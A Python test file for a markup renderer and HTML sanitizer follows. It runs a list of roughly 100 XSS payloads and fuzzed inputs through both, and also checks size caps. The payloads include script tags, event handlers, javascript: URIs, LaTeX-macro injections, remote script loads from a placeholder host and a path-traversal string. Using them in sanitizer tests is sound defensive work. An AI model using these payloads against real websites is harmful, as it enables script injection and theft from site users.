"""Nothing that a stranger writes runs in anybody's browser."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repository.errors import TooLarge
from repository.markup import clean_html, render
from tests.repository.markup.html_reading import dangers_in

VECTORS = r'''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)" alt="a">
<IMG SRC="jav&#x09;ascript:alert(1);">
<img src="/media/aa" onload=alert(1)>
<img src=`javascript:alert(1)`>
<img """><script>alert(1)</script>">
<img srcset="x 1x" onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>
<math href="javascript:alert(1)">x</math>
<a href="javascript:alert(1)">x</a>
<a href="javascript:123">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example">x</a>
<a href="https://a.example" onclick="alert(1)">x</a>
<a href="https://a.example" style="position:fixed">x</a>
<a href="https://a.example/" target="_blank" name="x" id="y">x</a>
<a href='https://a.example/"onmouseover="alert(1)'>x</a>
<b onmouseover=alert(1)>x</b>
<b style="background:url(javascript:alert(1))">x</b>
<p style="color:red">x</p>
<div style="width:expression(alert(1))">x</div>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<form action="javascript:alert(1)"><input type=submit></form>
<button formaction="javascript:alert(1)">x</button>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror="alert(1)">
<audio src=x onerror=alert(1)>
<body onload=alert(1)>
<html onmouseover=alert(1)>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//evil.example/x.css>
<base href="javascript:alert(1)//">
<style>@import '//evil.example/x.css';</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<table background="javascript:alert(1)"><tr><td>x</td></tr></table>
<td colspan="1 onclick=alert(1)">x</td>
<ol start="1" onclick="alert(1)"><li>x</li></ol>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><script>alert(1)</script></template>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<marquee onstart=alert(1)>x</marquee>
<isindex action=javascript:alert(1) type=image>
<xss onafterscriptexecute=alert(1)>
<b/onclick=alert(1)>x</b>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
![x](javascript:alert(1))
![x](media:../../etc/passwd)
![" onerror="alert(1)](media:0000000000000000000000000000000000000000000000000000000000000000)
![<script>alert(1)</script>](media:0000000000000000000000000000000000000000000000000000000000000000)
![x](https://evil.example/pixel.png)
$<script>alert(1)</script>$
$\text{<img src=x onerror=alert(1)>}$
$\href{javascript:alert(1)}{x}$
$\url{javascript:alert(1)}$
$\class{x" onclick="alert(1)}{y}$
$\style{color:red}{y}$
$\htmlData{x=1}{y}$
$\unicode{x3cscript}$
$</annotation></semantics></math><script>alert(1)</script>$
$\textcolor{red" onclick="alert(1)}{x}$
$\def\a{\a\a}\a$
<a href="$x$">y</a>
<a href="https://a.example/$\text{"onclick=alert(1)}$">y</a>
<img alt="$<img src=x onerror=alert(1)>$" src="media:0000000000000000000000000000000000000000000000000000000000000000">
\underline{<script>alert(1)</script>}
\textbf{<img src=x onerror=alert(1)>}
\underline{\textbf{</b></u><svg onload=alert(1)>}}
\ce{<script>alert(1)</script>}
x^{<script>alert(1)</script>}
\begin{array}{c}<script>alert(1)</script>\end{array}
'''.strip().split("\n")

SIGNS = list("<>&$\\{}^_/=\n\t0\"'\ufdd0\ufdd1xế")
PIECES = [
    *VECTORS,
    "<b>",
    "</b>",
    "<td>",
    "<table>",
    "<img src=",
    "<a href=",
    "<!--",
    "<style>",
    "javascript:",
    "media:",
]
TEX = [r"\text{", r"\underline{", r"\frac", "$$", r"\(", r"\)", r"\[", r"\]", "![a](", "&lt;", "&#60;", r"\ce{", "a_1"]
ALPHABET = st.one_of(st.sampled_from(SIGNS), st.sampled_from(PIECES), st.sampled_from(TEX), st.characters())


def test_there_are_enough_vectors() -> None:
    assert len(VECTORS) >= 60


@pytest.mark.parametrize("vector", VECTORS)
def test_a_source_never_runs(vector: str) -> None:
    assert dangers_in(render(vector).html) == []


@pytest.mark.parametrize("vector", VECTORS)
def test_rich_text_never_runs(vector: str) -> None:
    assert dangers_in(clean_html(vector)) == []


@pytest.mark.parametrize("vector", VECTORS)
def test_a_vector_inside_a_paragraph_of_maths_never_runs(vector: str) -> None:
    assert dangers_in(render(f"<p>Cho $x^2$ {vector} và \\frac{{1}}{{2}}</p>\n\n{vector}").html) == []


@settings(max_examples=400, deadline=None)
@given(st.lists(ALPHABET, max_size=40).map("".join))
def test_no_source_at_all_runs(source: str) -> None:
    assert dangers_in(render(source).html) == []


@settings(max_examples=200, deadline=None)
@given(st.lists(ALPHABET, max_size=40).map("".join))
def test_no_rich_text_at_all_runs(html: str) -> None:
    assert dangers_in(clean_html(html)) == []


@settings(max_examples=100, deadline=None)
@given(st.lists(ALPHABET, max_size=40).map("".join))
def test_the_same_source_gives_the_same_bytes(source: str) -> None:
    assert render(source) == render(source)


def test_a_link_that_bleach_would_keep_loses_its_address() -> None:
    assert "javascript" not in clean_html('<a href="javascript:123">x</a>')


@pytest.mark.parametrize("html", ["<div>" * 70, "<b>" * 70, "<b></i>" * 70, "x" * 100_001, "<p>" * 5_001])
def test_what_would_slow_the_parser_is_refused_before_it(html: str) -> None:
    with pytest.raises(TooLarge):
        clean_html(html)


@pytest.mark.parametrize("source", ["x" * 100_001, "<b>" * 70, "$x$" * 10_001, "<br>" * 5_001])
def test_a_source_beyond_the_caps_is_refused(source: str) -> None:
    with pytest.raises(TooLarge):
        render(source)
